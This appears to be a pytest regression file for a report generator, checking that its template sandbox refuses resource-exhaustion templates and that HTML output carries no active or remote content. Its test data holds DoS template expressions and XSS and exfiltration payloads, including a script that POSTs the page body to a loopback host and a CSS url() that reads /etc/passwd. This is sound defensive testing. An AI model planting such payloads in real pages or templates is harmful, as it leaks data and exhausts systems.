"""Fail closed (issue 17, items 5 and 6): a paper carries no active or remote content, and
every stage of making it is bounded. One regression test per defect found; each failed on the
code before the fix."""

from __future__ import annotations

import sys

import pytest
from typer.testing import CliRunner

from tests.conftest import RepoBuilder, invoke

Q3 = ["--quarter", "2004-Q3"]


def _report(cli: CliRunner, repo: RepoBuilder, *args: str) -> tuple[int, str, str]:
    return invoke(cli, "report", "--root", str(repo.root), *Q3, *args)


# -- template bounds: no single operation builds more than a million characters -------------

WIDE = 300_000_000
"""Wide enough to be refused at once; small enough that the code before the fix built it
(300 MB) and went on, so these tests failed there rather than exhausting the machine."""


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (f'{{{{ ("%{WIDE}d" % 1) | length }}}}', "`%` formatting of '%300000000d'"),
        (f'{{{{ ("%*d" % ({WIDE}, 1)) | length }}}}', "`%` formatting of '%*d'"),
        (f'{{{{ ("%.{WIDE}f" % 1.5) | length }}}}', "`%` formatting"),
        (f'{{{{ ("%((k))s%((k)){WIDE}s" % {{"(k)": 1}}) | length }}}}', "`%` formatting"),
        (f'{{{{ "%{WIDE}d" | format(1) | length }}}}', "`%` formatting"),
        (f'{{{{ "{{:{WIDE}}}".format(1) | length }}}}', "`format()`"),
        (f'{{{{ "{{:{{}}}}".format(1, {WIDE}) | length }}}}', "`format()`"),
        (f'{{{{ "{{a:{{b}}}}".format_map({{"a": 1, "b": {WIDE}}}) | length }}}}', "`format_map()`"),
        ('{{ "{0}{0}{0}".format("x" * 900000) | length }}', "`format()`"),
        (f'{{{{ "x" | center({WIDE}) | length }}}}', "`center`"),
        (f'{{{{ "x".center({WIDE}) | length }}}}', "`center()`"),
        (f'{{{{ "x".ljust({WIDE}) | length }}}}', "`ljust()`"),
        (f'{{{{ "x".rjust({WIDE}) | length }}}}', "`rjust()`"),
        (f'{{{{ "1".zfill({WIDE}) | length }}}}', "`zfill()`"),
        ('{{ ("\t" * 1000).expandtabs(300000) | length }}', "`expandtabs()`"),
        ('{{ ("x\\n" * 1000) | indent(300000) | length }}', "`indent`"),
        ('{{ ("x" * 1000) | replace("x", "y" * 300000) | length }}', "`replace`"),
        ('{{ ("x" * 1000).replace("", "y" * 300000) | length }}', "`replace()`"),
        ('{{ ("y" * 1000).join(["a"] * 300000) | length }}', "`join()`"),
        ('{{ (["x" * 1000000] * 300) | join | length }}', "`join`"),
        ('{{ ("x" * 1000).translate({120: "y" * 300000}) | length }}', "`translate()`"),
        (f'{{{{ (1).to_bytes({WIDE}, "big") | length }}}}', "`to_bytes()`"),
        ("{{ [1] | batch(30000000, 0) | list | length }}", "`batch`"),
        ("{{ [1] | slice(3000000) | list | length }}", "`slice`"),
        ('{{ ("a " * 100000) | wordwrap(1, wrapstring="y" * 3000) | length }}', "`wordwrap`"),
        ('{{ ("a.co " * 1000) | urlize(target="y" * 300000) | length }}', "`urlize`"),
        ('{{ ([["x"] * 100000] * 300) | sum(start=[]) | length }}', "`sum`"),
    ],
)
def test_one_operation_cannot_build_a_huge_value(
    cli: CliRunner, repo: RepoBuilder, body: str, says: str
) -> None:
    """`{{ ("%3000000000d" % 1)|length }}` allocated 3 GB (so did `center`, `format`,
    `indent`): a single C call that no time limit interrupts."""
    template = repo.write("huge.md.j2", f"line one\n{body}\n")
    code, out, err = _report(cli, repo, "--template", str(template))
    assert (code, out) == (2, "")
    assert f"template {template}:2: {says}" in err
    assert "would build more than 1 million characters or items; simplify the template" in err


def test_bounded_operations_still_work(cli: CliRunner, repo: RepoBuilder) -> None:
    """What a paper uses of the same operations is untouched."""
    template = repo.write(
        "fine.md.j2",
        '{{ "%s-%03d|%-4s|" % ("a", 7, "b") }}{{ "%(k)s" % {"k": "m"} }}'
        '{{ "{:>4}|{:.2f}".format("x", 2.5) }}|{{ "ab" | center(6) }}|{{ [1, 2, 3] | join(", ") }}'
        '|{{ [1, 2, 3] | batch(2) | list }}|{{ "a b c" | wordwrap(3) | replace("\n", "/") }}'
        "|{{ [[1], [2]] | sum(start=[]) }}|{{ 'x' | indent(2) }}\n",
    )
    code, out, err = _report(cli, repo, "--template", str(template))
    assert code == 0, err
    assert out == "a-007|b   |m   x|2.50|  ab  |1, 2, 3|[[1, 2], [3]]|a b/c|[1, 2]|x\n"


def test_lipsum_is_gone(cli: CliRunner, repo: RepoBuilder) -> None:
    """`lipsum(n)` writes lorem ipsum of any length; no paper needs it."""
    template = repo.write("lorem.md.j2", "{{ lipsum(30000000) | length }}\n")
    code, _, err = _report(cli, repo, "--template", str(template))
    assert code == 2 and "'lipsum' is undefined" in err


def test_a_template_cannot_grow_a_list(cli: CliRunner, repo: RepoBuilder) -> None:
    """Lists and dicts are immutable in the sandbox: `append` in a loop would accumulate
    memory that no bound on one operation sees."""
    template = repo.write(
        "grow.md.j2",
        "{% set acc = [] %}{% for i in range(3) %}{{ acc.append(i) }}{% endfor %}{{ acc }}\n",
    )
    code, _, err = _report(cli, repo, "--template", str(template))
    assert code == 2 and "access to attribute 'append' of 'list' object is unsafe" in err


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the memory budget is Linux's")
def test_a_template_that_accumulates_memory_is_stopped(cli: CliRunner, repo: RepoBuilder) -> None:
    """A string doubled in a loop: every step is within the bounds (it adds only its input),
    but the render would map 2 GiB; the memory budget (1 GiB, Linux) stops it as exit 2."""
    template = repo.write(
        "double.md.j2",
        '{% set ns = namespace(s="x" * 1000000) %}{% for i in range(11) %}'
        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s | length }}\n",
    )
    code, out, err = _report(cli, repo, "--template", str(template))
    assert (code, out) == (2, "")
    assert f"template {template}:1 ran out of memory; simplify the template" in err


# -- the HTML paper: no active or remote content ----------------------------------------------

ACTIVE = [
    (
        '<script>fetch("http://127.0.0.1:9/", {method: "POST", body: document.body.innerHTML})'
        "</script>",
        "(<script>)",
    ),
    ('<img src="http://127.0.0.1:9/pixel.png">', '(<img src="http://127.0.0.1:9/pixel.png">)'),
    ('<iframe src="http://127.0.0.1:9/"></iframe>', "(<iframe"),
    ('<object data="http://127.0.0.1:9/x.swf"></object>', "(<object"),
    ('<embed src="http://127.0.0.1:9/x">', "(<embed"),
    ('<div onclick="alert(1)">x</div>', '(<div onclick="alert(1)">)'),
    ('<p onmouseover="alert(1)">x</p>', "onmouseover"),
    ('<a href="http://127.0.0.1:9/">a link out</a>', '(<a href="http://127.0.0.1:9/">)'),
    ('<a href="javascript:alert(1)">x</a>', "javascript:alert(1)"),
    ('<link rel="stylesheet" href="http://127.0.0.1:9/x.css">', "(<link"),
    ('<base href="http://127.0.0.1:9/">', "(<base"),
    ('<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">', "http-equiv"),
    ('<form action="http://127.0.0.1:9/"><input name="q"></form>', "(<form"),
    ("<svg><script>alert(1)</script></svg>", "(<script>)"),
    ('<svg><use href="http://127.0.0.1:9/s.svg#a"></use></svg>', "(<use"),
    ('<svg><image href="http://127.0.0.1:9/i.png"></image></svg>', "(<image"),
    ("<svg><foreignObject><p>x</p></foreignObject></svg>", "(<foreignobject>)"),
    (
        '<svg><rect fill="url(http://127.0.0.1:9/p.svg#g)"></rect></svg>',
        "url(http://127.0.0.1:9/p.svg#g) in CSS in the fill of <rect>",
    ),
    (
        '<span style="background: url(http://127.0.0.1:9/b.png)">x</span>',
        "url(http://127.0.0.1:9/b.png) in CSS in the style of <span>",
    ),
    ("<style>@import url(http://127.0.0.1:9/x.css);</style>", "(@import in CSS)"),
    ('<style>@import "x.css";</style>', "(@import in CSS)"),
    ("<style>@media print { @import url(x.css); }</style>", "(@import in CSS)"),
    (
        "<style>p { background: url(http://127.0.0.1:9/b.png) }</style>",
        "(url(http://127.0.0.1:9/b.png) in CSS)",
    ),
    (
        "<style>p { background: u\\72l(http://127.0.0.1:9/b.png) }</style>",
        "(url(http://127.0.0.1:9/b.png) in CSS)",
    ),
    (
        '<style>p { background: URL("file:///etc/passwd") }</style>',
        "(url(file:///etc/passwd) in CSS)",
    ),
    (
        '<style>p { background: image-set("http://127.0.0.1:9/b.png" 1x) }</style>',
        "(url(http://127.0.0.1:9/b.png) in CSS)",
    ),
    (
        "<style>@font-face { font-family: x; src: url(//127.0.0.1:9/f.woff) }</style>",
        "(url(//127.0.0.1:9/f.woff) in CSS)",
    ),
    ("<style>p { width: expression(alert(1)) }</style>", "(expression() in CSS)"),
    ("<svg><style>@import url(http://127.0.0.1:9/x.css);</style></svg>", "(@import in CSS)"),
    ("<svg><style>&#64;import url(http://127.0.0.1:9/x.css);</style></svg>", "(@import in CSS)"),
]


@pytest.mark.parametrize(("markup", "says"), ACTIVE)
def test_a_template_with_active_or_remote_content_is_refused(
    cli: CliRunner, repo: RepoBuilder, markup: str, says: str
) -> None:
    """A `templates/report.html.j2` with `<script>fetch(...)</script>` or
    `<img src="http://...">` was kept: opening the closed HTML in Chromium sent the whole
    paper to a server. Now the template is refused, naming it and what it asked for."""
    (repo.root / "templates").mkdir()
    repo.write("templates/report.html.j2", f"<h1>{{{{ r.title }}}}</h1>\n{markup}\n<p>end</p>\n")
    code, out, err = _report(cli, repo, "--session", "closed", "--format", "html")
    assert (code, out) == (2, "")
    assert err.startswith("psstrat: error: template report.html.j2: the paper would carry ")
    assert says in err, err
    assert err.endswith("; papers carry none, remove it from the template\n")
    assert "Traceback" not in err and len(err.splitlines()) == 1


@pytest.mark.parametrize(
    "tag",
    [
        '<body onload="alert(1)">',
        "<body class='draft'>",
        '<html manifest="x.appcache">',
        '<head profile="x">',
        "<body/onload=alert(1)>",
    ],
)
def test_attributes_on_the_document_shell_are_refused(
    cli: CliRunner, repo: RepoBuilder, tag: str
) -> None:
    """ammonia cleans fragments: it drops `<html>`, `<head>`, `<body>` and their attributes
    unseen, so `<body onload=...>` would vanish silently. psstrat writes the shell itself and
    refuses an attribute the template puts on it (except `<html lang>`)."""
    (repo.root / "templates").mkdir()
    repo.write("templates/report.html.j2", f"<!DOCTYPE html>\n{tag}\n<p>{{{{ r.title }}}}</p>\n")
    code, _, err = _report(cli, repo, "--format", "html")
    assert code == 2
    assert "template report.html.j2: psstrat writes the paper's <html>, <head> and <body>" in err
    assert err.endswith("; put attributes on an element inside them\n")


def test_the_paper_is_psstrats_shell_around_the_cleaned_template(
    cli: CliRunner, repo: RepoBuilder
) -> None:
    """Doctype, language, charset and a Content-Security-Policy that allows nothing remote
    and no script come first, whatever the template wrote; a template's own full document
    (as older overrides have) is accepted, its `<html lang>` carried over."""
    (repo.root / "templates").mkdir()
    repo.write(
        "templates/report.html.j2",
        '<!DOCTYPE html>\n<html lang="cy">\n<head>\n<meta charset="utf-8">\n'
        "<title>{{ r.title }}</title>\n<!-- a comment -->\n</head>\n<body>\n"
        '<p class="x" style="color: #333; background: url(data:image/png;base64,AA==)">'
        '{{ r.title }} <a href="#summary">up</a></p>\n</body>\n</html>\n',
    )
    code, out, err = _report(cli, repo, "--format", "html")
    assert code == 0, err
    assert out.startswith(
        '<!DOCTYPE html>\n<html lang="cy">\n<meta charset="utf-8">\n'
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
        "style-src 'unsafe-inline'; img-src data:; font-src data:; base-uri 'none'; "
        "form-action 'none'\">\n"
    )
    assert "<title>Test Strategy: progress report, Q3 2004/05</title>" in out
    assert '<a href="#summary">up</a>' in out and "a comment" not in out
    assert "<body" not in out and "<head" not in out


@pytest.mark.parametrize("session", ["open", "closed"])
@pytest.mark.parametrize("extra", [[], ["--as-of", "2004-12-30"], ["--strand", "S1"]])
def test_the_packaged_paper_passes_its_own_cleaning(
    cli: CliRunner, session: str, extra: list[str]
) -> None:
    """Everything the packaged templates write (the draft watermark, both charts, every
    table) is on the allowlist: nothing of it is refused or removed."""
    from tests.test_security import ROOT

    code, out, err = invoke(
        cli, "report", "--root", str(ROOT), *Q3, "-f", "html", "--session", session, *extra
    )
    assert code == 0, err
    assert out.count("<svg") == (1 if extra[:1] == ["--strand"] else 2)
    assert 'role="img" aria-labelledby="heat-title heat-desc"' in out
